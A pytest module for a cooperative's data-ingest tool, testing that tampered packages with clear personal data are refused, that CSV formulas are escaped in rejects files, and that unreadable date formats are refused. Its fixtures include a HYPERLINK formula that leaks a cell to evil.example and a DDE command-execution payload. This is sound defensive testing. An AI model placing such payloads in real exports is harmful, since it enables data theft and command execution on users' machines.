"""What a hostile hand does with culturecoop's files, and what it gets.

* A package `prepare` wrote, edited by hand and re-hashed so that its checksums match (as an
  adversarial tester's ``retamper.py`` does): clear e-mails, phones or names put where tokens go
  are refused by `ingest` and by the web upload alike, in one sentence, and nothing is loaded.
* An export whose line (or the part of one after a lone carriage return) is a spreadsheet
  formula: the rejects file, and the member app's download of it, carry it as text.
* A mapping whose date format DuckDB cannot read: refused when the mapping is read, by
  `prepare` and by the member app's form, whose page keeps working.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import string
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import SYNTH_TODAY
from conftest import run_cli_here as run_cli
from culturecoop.governance.accounts import create_account
from culturecoop.governance.sessions import create_token
from culturecoop.governance.uploads import add_member
from culturecoop.ingest.profile import STRPTIME_DIRECTIVES
from culturecoop.memberapp.app import MemberSettings, create_member_app
from culturecoop.memberapp.workspace import Workspace
from culturecoop.privacy.keys import init_keys
from culturecoop.warehouse.engine import Warehouse
from culturecoop.web import Settings, create_app
from memberapp.pages import box_office_rows, csrf
from web.conftest import TestClient, new_client
from web.live import free_port

MEMBER = "jazz-dieze"
Edit = Callable[[pa.Table], pa.Table]


@pytest.fixture(scope="module")
def synth(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small synthetic cooperative's exports (``culturecoop synth``)."""
    out = tmp_path_factory.mktemp("synth") / "s"
    result = run_cli("synth", "--out", str(out), "--patrons", "300", "--today", SYNTH_TODAY)
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture(scope="module")
def package(synth: Path, keys: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The package `culturecoop prepare` writes from the canonical member's export."""
    out = tmp_path_factory.mktemp("package") / "pkg"
    result = run_cli("prepare", str(synth / f"{MEMBER}.csv"), "--member", MEMBER, "--profile", "canonical",
                     "--keys", str(keys), "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


def tampered(package: Path, out: Path, edits: dict[str, Edit]) -> Path:
    """A copy of ``package`` with tables rewritten by ``edits`` and their checksums and rows updated in the
    manifest, as a forger would (the adversarial tester's ``retamper.py``)."""
    shutil.copytree(package, out)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    for table, edit in edits.items():
        file = out / f"{table}.parquet"
        rewritten = edit(pq.read_table(file))
        pq.write_table(rewritten, file, compression="zstd", write_page_checksum=True)
        manifest["tables"][table].update(sha256=hashlib.sha256(file.read_bytes()).hexdigest(), rows=rewritten.num_rows)
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1), encoding="utf-8")
    return out


def replaced(column: str, value: Callable[[int, object], object], kind: pa.DataType = pa.string()) -> Edit:
    """An edit setting each value of ``column`` to ``value(row, old value)``."""
    def edit(table: pa.Table) -> pa.Table:
        values = [value(i, v) for i, v in enumerate(table.column(column).to_pylist())]
        return table.set_column(table.column_names.index(column), column, pa.array(values, kind))

    return edit


def _person(token: object) -> str:
    # The same token always becomes the same person: patron, ticket and consent stay consistent.
    n = int(str(token)[:6], 16) % 100_000
    return f"Pascale Roy {n} <pascale.roy{n}@courriel.example>"


# name: (the tables edited, the column the refusal names)
HOSTILE: dict[str, tuple[dict[str, Edit], str]] = {
    "e-mails-as-email-tokens": (
        {"patron": replaced("email_token", lambda i, _v: f"client{i}@courriel.example")}, "patron.email_token"),
    "phone-as-order-id": ({"ticket": replaced("order_id", lambda _i, _v: "514-555-0199")}, "ticket.order_id"),
    "names-and-e-mails-as-patron-ids": (
        {t: replaced("member_patron_id", lambda _i, v: _person(v)) for t in ("patron", "ticket", "consent")},
        "patron.member_patron_id"),
    "upper-case-ticket-ids": ({"ticket": replaced("ticket_id", lambda _i, v: str(v).upper())}, "ticket.ticket_id"),
    "surname-in-clear-as-its-bloom-filter": (
        {"patron": replaced("bloom_surname", lambda _i, _v: b"tremblay", pa.binary())}, "patron.bloom_surname"),
    # One value among a million proper tokens: the buffers' proof fails, the count finds it.
    "one-e-mail-among-the-tokens": (
        {"ticket": replaced("member_patron_id", lambda i, v: "anne@courriel.example" if i == 3 else v)},
        "ticket.member_patron_id"),
    "phone-tokens-as-numbers": (
        {"patron": replaced("phone_token", lambda i, _v: 5145550100 + i, pa.int64())}, "patron.phone_token"),
}


def fingerprint(db: Path) -> str:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return "|".join(str(con.execute(f"SELECT count(*), sum(hash(t)) FROM {t} t").fetchall())
                        for t in ("member", "event", "patron", "ticket", "consent", "ingest_log"))
    finally:
        con.close()


@pytest.fixture(scope="module")
def warehouse(package: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse holding the untouched package: what `prepare` writes is loaded as it is."""
    db = tmp_path_factory.mktemp("coop") / "coop.duckdb"
    result = run_cli("ingest", str(package), "--db", str(db))
    assert result.returncode == 0, result.stderr
    return db


@pytest.mark.parametrize("name", list(HOSTILE))
def test_ingest_refuses_a_package_whose_tokens_are_not_tokens(name: str, package: Path, warehouse: Path,
                                                              tmp_path: Path) -> None:
    edits, column = HOSTILE[name]
    db = tmp_path / "coop.duckdb"
    shutil.copy(warehouse, db)
    before = fingerprint(db)
    result = run_cli("ingest", str(tampered(package, tmp_path / "pkg", edits)), "--db", str(db))
    assert result.returncode == 3, (result.returncode, result.stderr)
    said = result.stderr.strip()
    assert said.startswith("Error: ") and "\n" not in said and "Traceback" not in said, said
    assert f" {column} " in said and "culturecoop prepare" in said, said
    assert "@" not in said and "555" not in said and "tremblay" not in said, "the refusal quotes the value"
    assert fingerprint(db) == before


@pytest.mark.parametrize(("table", "column", "value", "kind"), [
    ("patron", "bloom_surname", b"tremblay", pa.binary()),
    ("ticket", "member_patron_id", "anne@courriel.example", pa.string()),
])
def test_a_value_in_the_last_batch_is_found(table: str, column: str, value: object, kind: pa.DataType,
                                            package: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The token and Bloom-filter columns are proved batch by batch: a value edited into the file's last row,
    many batches after the first, is refused like one in the first."""
    import culturecoop.ingest.package as package_module

    monkeypatch.setattr(package_module, "_PROOF_ROWS", 5)
    rows = pq.ParquetFile(package / f"{table}.parquet").metadata.num_rows
    assert rows > 5 * 5
    edit = replaced(column, lambda i, v: value if i == rows - 1 else v, kind)
    result = run_cli("ingest", str(tampered(package, tmp_path / "pkg", {table: edit})), "--db",
                     str(tmp_path / "coop.duckdb"))
    assert result.returncode == 3, (result.returncode, result.stderr)
    assert f"holds 1 value in {table}.{column} " in result.stderr, result.stderr
    assert not (tmp_path / "coop.duckdb").exists()


def test_the_refusal_is_said_in_french(package: Path, tmp_path: Path) -> None:
    pkg = tampered(package, tmp_path / "pkg", HOSTILE["e-mails-as-email-tokens"][0])
    result = run_cli("ingest", str(pkg), "--db", str(tmp_path / "coop.duckdb"), lang="fr")
    assert result.returncode == 3
    assert "valeurs dans patron.email_token qui ne sont pas des jetons à clé de 64 chiffres hexadécimaux" \
        in result.stderr, result.stderr
    assert not (tmp_path / "coop.duckdb").exists()


@pytest.fixture
def cooperative(tmp_path: Path) -> Iterator[tuple[object, str]]:
    """The cooperative's web app over a new warehouse, and an API token of the member's manager."""
    db = tmp_path / "web.duckdb"
    with Warehouse(db, create=True) as w:
        add_member(w, MEMBER, "Club de jazz Le Dièse", "jazz_club", "Montréal")
        account = create_account(w, email="admin@diese.test", password="correct horse battery", role="member_admin",
                                 member_id=MEMBER, display_name="Admin", language="en")
        token = create_token(w, account, "tests")[1]
    application = create_app(Settings(db=db, warmup=False))
    yield application, token
    application.state.pool.close()  # type: ignore[attr-defined]


def _zip(folder: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for file in sorted(folder.iterdir()):
            zf.write(file, f"{folder.name}/{file.name}")
    return buffer.getvalue()


def test_the_web_upload_refuses_it_too(package: Path, cooperative: tuple[object, str], tmp_path: Path) -> None:
    app, token = cooperative
    pkg = tampered(package, tmp_path / "pkg", HOSTILE["names-and-e-mails-as-patron-ids"][0])
    with new_client(app) as client:
        response = client.post(f"/api/v1/members/{MEMBER}/packages",
                               headers={"Authorization": f"Bearer {token}", "Accept-Language": "en"},
                               files={"file": ("juin.zip", _zip(pkg), "application/octet-stream")})
    assert response.status_code == 422, response.text
    message = response.json()["error"]["message"]
    assert "juin.zip" in message and "patron.member_patron_id" in message and "culturecoop prepare" in message
    assert "Pascale" not in response.text
    with app.state.pool.connection() as w:  # type: ignore[attr-defined]
        assert w.scalar("SELECT count(*) FROM patron") == 0
        assert [r["outcome"] for r in w.query("SELECT outcome FROM package_upload")] == ["refused"]
    with new_client(app) as client:  # the package as prepare wrote it still goes in
        response = client.post(f"/api/v1/members/{MEMBER}/packages", headers={"Authorization": f"Bearer {token}"},
                               files={"file": ("juin.zip", _zip(package), "application/octet-stream")})
    assert response.status_code == 201, response.text


# A cell a spreadsheet runs: a formula's sign, maybe after blanks (spaces, no-break spaces, line breaks).
_LIVE = re.compile(r"[\s\u00a0\u2000-\u200a\u202f\u3000\ufeff]*[=+\-@]")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&C3,"Open")'


def live_cells(text: str) -> tuple[list[str], list[str]]:
    """(cells a spreadsheet would run, cells that hold a formula as text) of a CSV document."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [c for c in cells if _LIVE.match(c)], [c for c in cells if c.startswith("'") and "HYPERLINK" in c]


def _with_formulas(lines: list[str]) -> str:
    """An export whose lines 3 and 4 end with a lone CR and a formula, and which carries a line of a
    formula after blanks (an export's « notes » column is where such text hides)."""
    lines = list(lines)
    lines[2] = lines[2] + "\r" + FORMULA
    lines[3] = lines[3] + "\r \u00a0" + FORMULA
    lines.insert(5, "  @SUM(1+1)*cmd|' /C calc'!A0")
    lines.insert(6, "\t" + FORMULA)
    return "\n".join(lines) + "\n"


def test_the_rejects_file_carries_formulas_as_text(synth: Path, keys: Path, tmp_path: Path) -> None:
    export = tmp_path / "formules.csv"
    export.write_bytes(_with_formulas((synth / f"{MEMBER}.csv").read_text(encoding="utf-8").splitlines()).encode())
    result = run_cli("prepare", str(export), "--member", MEMBER, "--profile", "canonical", "--keys", str(keys),
                     "--out", str(tmp_path / "pkg"))
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "pkg.rejects.csv").read_text(encoding="utf-8")
    live, as_text = live_cells(text)
    assert not live, live
    assert len(as_text) >= 3, text[:2000]


def test_the_member_apps_rejects_download_carries_them_as_text(tmp_path: Path) -> None:
    init_keys(tmp_path / "keys")
    lines = box_office_rows(40).splitlines()
    export = Workspace(tmp_path / "work").add("ventes.csv", io.BytesIO(_with_formulas(lines).encode("utf-8")),
                                              "2026-11-30T10:05:00")
    port = free_port()
    app = create_member_app(MemberSettings(keys=tmp_path / "keys", work=tmp_path / "work", port=port, member_id=MEMBER))
    with TestClient(app, base_url=f"http://127.0.0.1:{port}") as client:
        page = client.get(f"/exports/{export.export_id}?lang=en").text
        prepared = client.post(f"/exports/{export.export_id}/prepare", data={"csrf": csrf(page)})
        assert prepared.status_code == 200, prepared.text[:600]
        download = client.get(f"/exports/{export.export_id}/rejects.csv")
    assert download.status_code == 200, download.text[:600]
    live, as_text = live_cells(download.text)
    assert not live, live
    assert as_text, download.text[:2000]


def _mapping(text: str, **settings: str) -> str:
    for key, value in settings.items():
        text = re.sub(rf"^{key}: .*$", f"{key}: {value}", text, count=1, flags=re.M)
    return text


@pytest.mark.parametrize(("setting", "value", "says"), [
    ("datetime_formats", '["%Q"]', ('"%Q" of datetime_formats uses %Q', "%d/%m/%Y %H:%M")),
    ("datetime_formats", '["%d/%m/%Y %H:%M", "%Y-%m-%dT%H:%M:%S%Ez"]', ("datetime_formats uses %E",)),
    ("date_formats", '["%Y-%m-%d %"]', ("date_formats ends with a lone %", "%%")),
    ("date_formats", '["%s"]', ("date_formats uses %s",)),
])
def test_prepare_refuses_a_date_format_duckdb_cannot_read(setting: str, value: str, says: tuple[str, ...],
                                                          synth: Path, keys: Path, tmp_path: Path) -> None:
    canonical = (Path(__file__).parents[1] / "src/culturecoop/ingest/profiles/canonical.yaml").read_text(encoding="utf-8")
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(_mapping(canonical, **{setting: value}), encoding="utf-8")
    assert value in mapping.read_text(encoding="utf-8")
    result = run_cli("prepare", str(synth / f"{MEMBER}.csv"), "--member", MEMBER, "--mapping", str(mapping),
                     "--keys", str(keys), "--out", str(tmp_path / "pkg"))
    assert result.returncode == 2, (result.returncode, result.stderr)
    said = result.stderr.strip()
    assert said.startswith("Error: The mapping") and "\n" not in said, said
    assert all(s in said for s in says), said
    assert not (tmp_path / "pkg").exists() and not (tmp_path / "pkg.rejects.csv").exists()


def test_the_member_apps_form_refuses_it_and_its_page_keeps_working(tmp_path: Path) -> None:
    init_keys(tmp_path / "keys")
    export = Workspace(tmp_path / "work").add("ventes.csv", io.BytesIO(box_office_rows(30).encode("utf-8")),
                                              "2026-11-30T10:05:00")
    port = free_port()
    app = create_member_app(MemberSettings(keys=tmp_path / "keys", work=tmp_path / "work", port=port, member_id=MEMBER))
    with TestClient(app, base_url=f"http://127.0.0.1:{port}") as client:
        page = client.get(f"/exports/{export.export_id}?lang=en").text
        yaml_text = export.mapping_text()
        by_form = client.post(f"/exports/{export.export_id}/mapping", data={
            "csrf": csrf(page), "action": "form", "setting.datetime_formats": "%d/%m/%Y %H:%M; %Q"})
        assert by_form.status_code == 400, by_form.text[:600]
        assert "%Q" in by_form.text and "datetime_formats" in by_form.text
        by_yaml = client.post(f"/exports/{export.export_id}/mapping", data={
            "csrf": csrf(page), "action": "yaml", "yaml": yaml_text + '\ndate_formats: ["%Q"]\n'})
        assert by_yaml.status_code == 400, by_yaml.text[:600]
        assert export.mapping_text() == yaml_text
        again = client.get(f"/exports/{export.export_id}")
        assert again.status_code == 200, again.text[:600]


def test_the_directives_a_mapping_may_use_are_those_duckdb_reads() -> None:
    con = duckdb.connect()
    read = set()
    for letter in string.ascii_letters + string.punctuation:
        for directive in (f"%{letter}", f"%-{letter}"):
            try:
                con.execute("SELECT try_strptime('2026', ?)", [directive]).fetchall()
            except duckdb.InvalidInputException:
                continue
            read.add(directive)
    con.close()
    assert read == STRPTIME_DIRECTIVES
